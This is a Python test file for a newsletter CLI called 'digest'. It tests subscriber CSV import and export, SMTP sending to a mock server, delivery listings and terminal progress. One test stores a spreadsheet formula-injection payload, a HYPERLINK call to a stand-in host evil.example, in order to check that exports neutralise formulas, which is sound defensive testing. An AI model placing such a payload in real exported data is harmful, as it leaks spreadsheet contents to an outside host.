"""`digest subscribers import|export`, `digest send` and `digest deliveries`, run as a user runs them."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import pty
import subprocess
from pathlib import Path

from digest.config import load_config
from digest.render import render_email
from digest.store import open_store

from .conftest import digest_command
from .mailserver import REPLIES, MailServer, free_port
from .samples import NOW, sample_edition


def run(
    *args: str, config: Path, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith("DIGEST_")}
    return subprocess.run(
        digest_command("--config", str(config), *args),
        capture_output=True,
        text=True,
        timeout=120,
        env={**clean, **(env or {})},
    )


def write_config(folder: Path, extra: str = "") -> Path:
    path = folder / "digest.toml"
    path.write_text(
        f'data_dir = "{folder / "data"}"\n[newsletter]\nfrom_address = "daily@news.example.com"\n'
        + extra,
        encoding="utf-8",
    )
    return path


def test_import_and_export_round_trip_and_never_resubscribe(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    with open_store(tmp_path / "data") as store:
        store.add_subscriber("gone@example.com", status="unsubscribed", now=NOW)
    csv_file = tmp_path / "list.csv"
    csv_file.write_text(
        "\ufeffName,Email\n"
        "Ana,ana@example.com\n"
        "Bo,not-an-address\n"
        "\n"
        "Gone,GONE@example.com\n"
        "Cy,cy@example.com\n"
        "Ana again,ana@example.com\n",
        encoding="utf-8",
    )
    imported = run("subscribers", "import", str(csv_file), config=config)
    assert imported.returncode == 0, imported.stderr
    assert imported.stderr.startswith(
        f"skipped {csv_file}:3: not-an-address: not a valid email address"
    )
    assert imported.stdout == (
        f"{csv_file}: 2 added, 0 changed, 1 unchanged, 1 kept unsubscribed, 1 invalid\n"
    )
    exported = run("subscribers", "export", "--all", config=config)
    rows = [line.split(",")[:3] for line in exported.stdout.splitlines()]
    assert rows == [
        ["email", "name", "status"],
        ["gone@example.com", "", "unsubscribed"],
        ["ana@example.com", "Ana", "confirmed"],  # a repeated row changes nothing
        ["cy@example.com", "Cy", "confirmed"],
    ]
    # The export, imported elsewhere, keeps the unsubscribed address unsubscribed.
    (tmp_path / "copy").mkdir()
    copy = write_config(tmp_path / "copy")
    (tmp_path / "export.csv").write_text(exported.stdout, encoding="utf-8")
    assert run("subscribers", "import", str(tmp_path / "export.csv"), config=copy).returncode == 0
    with open_store(tmp_path / "copy" / "data") as store:
        copied = [(s.email, s.name, s.status) for s in store.subscribers(status=None)]
    assert sorted(copied) == [
        ("ana@example.com", "Ana", "confirmed"),
        ("cy@example.com", "Cy", "confirmed"),
        ("gone@example.com", "", "unsubscribed"),
    ]
    missing = run("subscribers", "import", str(tmp_path / "nope.csv"), config=config)
    assert missing.returncode == 2 and missing.stderr.startswith(
        f"digest: error: {tmp_path / 'nope.csv'}: cannot read the CSV file"
    )


def build_edition(config_path: Path, *addresses: str) -> None:
    config = load_config(config_path)
    email, _ = render_email(sample_edition(3), config.newsletter, config.render)
    with open_store(config.data_dir) as store:
        store.save_edition(email, number=1, built=NOW, article_ids=[])
        for address in addresses:
            store.add_subscriber(address, now=NOW)


def test_send_reports_counts_and_deliveries_shows_each_recipient(tmp_path: Path) -> None:
    with MailServer(faults={"bad@example.com": ["550"]}) as server:
        config = write_config(
            tmp_path,
            f'[delivery]\ntransport = "smtp"\n'
            f'[smtp]\nhost = "{server.host}"\nport = {server.port}\nsecurity = "none"\n',
        )
        build_edition(config, "ana@example.com", "bad@example.com")
        sent = run("send", config=config)
    assert sent.returncode == 0, sent.stderr
    assert sent.stderr == f"not delivered: bad@example.com: {REPLIES['550']}\n"
    assert sent.stdout == "edition 2026-03-10: 1 sent, 0 deferred, 1 failed, 0 skipped\n"
    listed = run("deliveries", config=config)
    assert listed.stdout.splitlines() == [
        "sent       1  ana@example.com",
        f"failed     1  bad@example.com  {REPLIES['550']}",
        "edition 2026-03-10: 2 recipients: 1 sent, 1 failed",
    ]
    unknown = run("deliveries", "1999-01-01", config=config)
    assert unknown.returncode == 2 and unknown.stderr == "digest: error: no edition 1999-01-01\n"


def test_send_stops_with_one_line_when_the_server_is_down_and_needs_the_secret(
    tmp_path: Path,
) -> None:
    port = free_port()
    config = write_config(
        tmp_path,
        f'base_url = "https://news.example.com"\n[delivery]\ntransport = "smtp"\n'
        f'[smtp]\nhost = "127.0.0.1"\nport = {port}\nsecurity = "none"\n',
    )
    build_edition(config, "ana@example.com")
    no_secret = run("send", config=config)
    assert no_secret.returncode == 2
    assert no_secret.stderr == (
        f"{config}: delivery.secret_env: the environment variable DIGEST_SECRET is not set; "
        "it signs the unsubscribe links (newsletter.base_url is set)\n"
    )
    down = run("send", config=config, env={"DIGEST_SECRET": "a-long-enough-secret-for-tests"})
    assert down.returncode == 1
    assert down.stdout == "edition 2026-03-10: 0 sent, 0 deferred, 0 failed, 0 skipped\n"
    assert down.stderr.startswith(f"digest: error: cannot connect to 127.0.0.1:{port}: ")
    assert down.stderr.endswith("; the rest wait for the next `digest send`\n")
    with open_store(tmp_path / "data") as store:
        assert [(d.status, d.attempts) for d in store.deliveries("2026-03-10")] == [("pending", 0)]


def test_send_shows_progress_on_a_terminal(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    build_edition(config, "ana@example.com", "bo@example.com")
    primary, secondary = pty.openpty()
    clean = {k: v for k, v in os.environ.items() if not k.startswith("DIGEST_")}
    with subprocess.Popen(
        digest_command("--config", str(config), "send"),
        stdout=subprocess.PIPE,
        stderr=secondary,
        env=clean,
    ) as process:
        os.close(secondary)
        terminal = b""
        with contextlib.suppress(OSError):  # EIO once the process has closed the terminal
            while chunk := os.read(primary, 4096):
                terminal += chunk
        stdout, _ = process.communicate(timeout=120)
    os.close(primary)
    assert process.returncode == 0
    assert terminal.startswith(b"\rsending: 1 done, 1 sent, 0 deferred, 0 failed, 0 skipped")
    assert terminal.endswith(b"\r\x1b[K")
    assert stdout.decode().startswith("edition 2026-03-10: 2 sent to ")


def test_export_neutralises_formulas_and_import_reads_them_back(tmp_path: Path) -> None:
    config = write_config(tmp_path)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3", "@SUM(A1)", "Ana"]
    with open_store(tmp_path / "data") as store:
        for number, name in enumerate(names):
            store.add_subscriber(f"r{number}@example.com", name=name, status="confirmed", now=NOW)
    exported = run("subscribers", "export", config=config)
    cells = [row[1] for row in csv.reader(io.StringIO(exported.stdout))][1:]
    assert sorted(cells) == sorted(
        ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1+2", "'-3", "'@SUM(A1)", "Ana"]
    )
    (tmp_path / "copy").mkdir()
    copy = write_config(tmp_path / "copy")
    (tmp_path / "export.csv").write_text(exported.stdout, encoding="utf-8")
    assert run("subscribers", "import", str(tmp_path / "export.csv"), config=copy).returncode == 0
    with open_store(tmp_path / "copy" / "data") as store:
        assert sorted(s.name for s in store.subscribers(status=None)) == sorted(names)
